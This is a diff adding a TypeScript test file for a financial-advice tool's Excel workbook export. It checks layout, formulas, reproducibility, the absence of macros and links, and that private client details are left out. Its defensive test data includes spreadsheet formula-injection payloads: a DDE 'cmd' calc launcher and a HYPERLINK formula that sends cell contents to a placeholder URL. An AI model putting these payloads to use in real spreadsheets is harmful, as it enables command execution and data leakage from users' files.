@@ -1,0 +1,172 @@
+/** The file of a workbook, and what people typed in it. */
+import { disclaimer } from '@advice-builder/contract';
+import { isoDate } from '@advice-builder/kernel';
+import { describe, expect, it } from 'vitest';
+import type { DocumentJob } from '../../packages/reports/src/job.ts';
+import { columnUnder, workbookOfCase as of, recomputed, workbookJob, workbookOf } from './workbook-cases.ts';
+import { sheetOf } from './xlsx-reader.ts';
+
+describe('the file', () => {
+  it('has its sheets in their order, each told by its first cell, headings frozen, nothing merged', () => {
+    const { book } = of('single-2025-fees');
+    expect(book.sheets.map(({ name }) => name)).toEqual([
+      ...['Comparison', 'Years', 'Months 0', 'Months 1', 'Months 2', 'Months 3', 'Inputs', 'Working', 'Rates', 'About'],
+    ]);
+    for (const { name, cells, movesFrom, hasMergedCells, widths } of book.sheets) {
+      expect(name.length).toBeLessThanOrEqual(31);
+      expect(cells.get('A1')?.value, name).toMatch(/^(Month by month|[A-Z][a-z]+): .+\.$/);
+      expect(hasMergedCells).toBe(false);
+      expect(widths.length).toBeGreaterThan(1);
+      if (name !== 'About') {
+        const row = Number(movesFrom?.replace(/\D/g, ''));
+        expect(cells.has(`A${row - 1}`) && cells.has(`A${row}`), `${name} is frozen under its headings`).toBe(true);
+      }
+    }
+    expect(String(sheetOf(book, 'Months 2').cells.get('A2')?.value)).toContain('do not follow a change');
+    expect(String(sheetOf(book, 'Inputs').cells.get('A2')?.value)).toContain('Change a yellow cell');
+  });
+
+  it('has amounts and dates as numbers, and formulas without a leading sign', () => {
+    const { book } = of('single-2025-fees');
+    const months = sheetOf(book, 'Months 2').cells;
+    expect(months.get('L6')?.format).toBe('#,##0.00;[Red]-#,##0.00');
+    expect(months.get('A6')).toMatchObject({ value: isoDate('2026-12-01') + 25_569, format: 'mmm yyyy' });
+    expect(months.get('E6')?.formula).toBe('MAX(0,B6+C6-D6)*Inputs!D6/100/12');
+    expect(months.get('B6')?.formula).toBe('Inputs!D5');
+    expect(months.get('B7')?.formula).toBe('L6');
+    expect(sheetOf(book, 'Comparison').cells.get('D5')?.formula).toBe("SUM('Months 2'!H6:H65)");
+    for (const { cells } of book.sheets) {
+      for (const { formula } of cells.values()) expect(formula ?? '').not.toMatch(/^=|\[|!#|https?:|file:/);
+    }
+  });
+
+  it('is parts of a workbook alone: no macro, no link, nothing outside', () => {
+    const { book } = of('margaret');
+    expect(
+      book.parts.every((part) =>
+        /^(\[Content_Types\]|_rels\/\.rels|docProps\/core|xl\/(workbook|styles|_rels\/workbook|worksheets\/sheet\d+)).*$/.test(
+          part,
+        ),
+      ),
+    ).toBe(true);
+    expect(book.created).toBe('2026-11-20T23:00:00.000Z');
+  });
+
+  it('says what it was made from, and that it is no advice', () => {
+    const { book } = of('single-2025-fees');
+    const about = [...sheetOf(book, 'About').cells.values()].map(({ value }) => value);
+    for (const text of ['Demo Adviser', 'Demonstration practice', disclaimer.lead, ...disclaimer.points]) {
+      expect(about).toContain(text);
+    }
+    expect(about[0]).toContain('Estimates, not advice');
+    expect(about.join('\n')).toContain('scenario 3: 4');
+  });
+
+  it('is the same file again to the byte, in whatever time zone, and another at another time', () => {
+    const job = workbookJob('margaret');
+    const { bytes } = of('margaret');
+    const zone = process.env.TZ;
+    try {
+      process.env.TZ = 'America/New_York';
+      expect(Buffer.from(workbookOf(job).bytes).equals(Buffer.from(bytes))).toBe(true);
+    } finally {
+      if (zone === undefined) delete process.env.TZ;
+      else process.env.TZ = zone;
+    }
+    const later: DocumentJob = { ...job, source: { ...job.source, calculatedAt: '2026-11-21T10:00:02+11:00' } };
+    expect(Buffer.from(workbookOf(later).bytes).equals(Buffer.from(bytes))).toBe(false);
+  });
+
+  it('of one scenario compares nothing', () => {
+    const { book } = workbookOf(workbookJob('thomas', { scenarios: [2], preferred: 2 }));
+    expect(book.sheets.map(({ name }) => name)).toEqual([
+      'Comparison',
+      'Years',
+      'Months 2',
+      'Inputs',
+      'Working',
+      'Rates',
+      'About',
+    ]);
+    expect(recomputed(book).faults).toEqual([]);
+    expect([...sheetOf(book, 'Comparison').cells.values()].some(({ value }) => /^Difference/.test(String(value)))).toBe(
+      false,
+    );
+  });
+
+  it('over fifteen years has as many', () => {
+    const { book, input } = workbookOf(workbookJob('margaret', { extendYears: true }));
+    expect(recomputed(book).faults).toEqual([]);
+    expect([...columnUnder(book, 'Months 1', 'Closing').values()].at(-1)).toBeCloseTo(
+      input.scenarios[1]?.fifteen.projection.columns.bankClosing[179] as number,
+      6,
+    );
+    expect(sheetOf(book, 'Comparison').cells.get('A1')?.value).toContain('15 years');
+  });
+});
+
+describe('what people typed', () => {
+  const HOSTILE = [
+    '=HYPERLINK("http://example.test/?"&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    '@SUM(A1:A9)',
+    '<b>&"\'</t></is></c>',
+    '\u0000\u0007bell\u001b \ud800 half',
+    '_x0041_ \u4e2d\u6587 \u0639\u0631\u0628\u064a \u{1f3e0}',
+  ] as const;
+  const CLEAN = [HOSTILE[0], HOSTILE[1], HOSTILE[2], HOSTILE[3], 'bell  half', HOSTILE[5]];
+
+  function hostileJob(): DocumentJob {
+    const job = workbookJob('couple-one-in-care');
+    const scenario = job.scenarios['0'];
+    if (scenario === undefined) throw new Error('scenario 0');
+    const scenarios = Object.fromEntries(HOSTILE.map((name, sid) => [String(sid), { ...scenario, name }]));
+    const ids = HOSTILE.map((_, sid) => sid);
+    return {
+      ...job,
+      choices: { ...job.choices, scenarios: ids, preferred: 5 },
+      scenarios,
+      preparedBy: { person: HOSTILE[1], practice: HOSTILE[4] },
+      record: {
+        ...job.record,
+        reference: '='.repeat(67),
+        description: 'SECRET-description',
+        notes: [{ id: 1, datetime: '2026-11-21T10:00:00+11:00', body: 'SECRET-note' }],
+        clients: job.record.clients.map((client, index) => ({
+          ...client,
+          first_name: index === 0 ? HOSTILE[0].slice(0, 30) : '-2',
+          last_name: 'W'.repeat(67),
+          poaRep: true,
+          poaRepName: 'SECRET-attorney',
+          poaRepRelation: 'SECRET-relation',
+          health: 4,
+          dementia: true,
+        })),
+      },
+      source: { ...job.source, reference: '='.repeat(67) },
+    };
+  }
+
+  it('stays text, whatever it looks like, with only the signs taken out that no XML may hold', () => {
+    const { book } = workbookOf(hostileJob());
+    const inputs = sheetOf(book, 'Inputs').cells;
+    const headings = ['B', 'C', 'D', 'E', 'F', 'G'].map((column) => inputs.get(`${column}4`));
+    expect(headings.map((cell) => cell?.value)).toEqual(
+      CLEAN.map((name, sid) => (sid === 0 ? name : `Scenario ${sid} - ${name}`)),
+    );
+    expect(headings.every((cell) => cell?.formula === undefined)).toBe(true);
+    const about = sheetOf(book, 'About').cells;
+    expect([...about.values()].map(({ value }) => value)).toEqual(expect.arrayContaining([HOSTILE[1], 'bell  half']));
+    for (const { name, cells } of book.sheets) {
+      for (const { formula } of cells.values()) expect(formula ?? '', name).not.toMatch(/HYPERLINK|cmd|@|WWW/);
+    }
+    expect(recomputed(book).faults).toEqual([]);
+  });
+
+  it('is left out where it is for the adviser alone: notes, attorney, health', () => {
+    const { book } = workbookOf(hostileJob());
+    const all = book.sheets.flatMap(({ cells }) => [...cells.values()].map(({ value }) => String(value))).join('\n');
+    expect(all).not.toMatch(/SECRET|health|dementia|attorney/i);
+    expect(all).toContain('W'.repeat(67));
+  });
+});
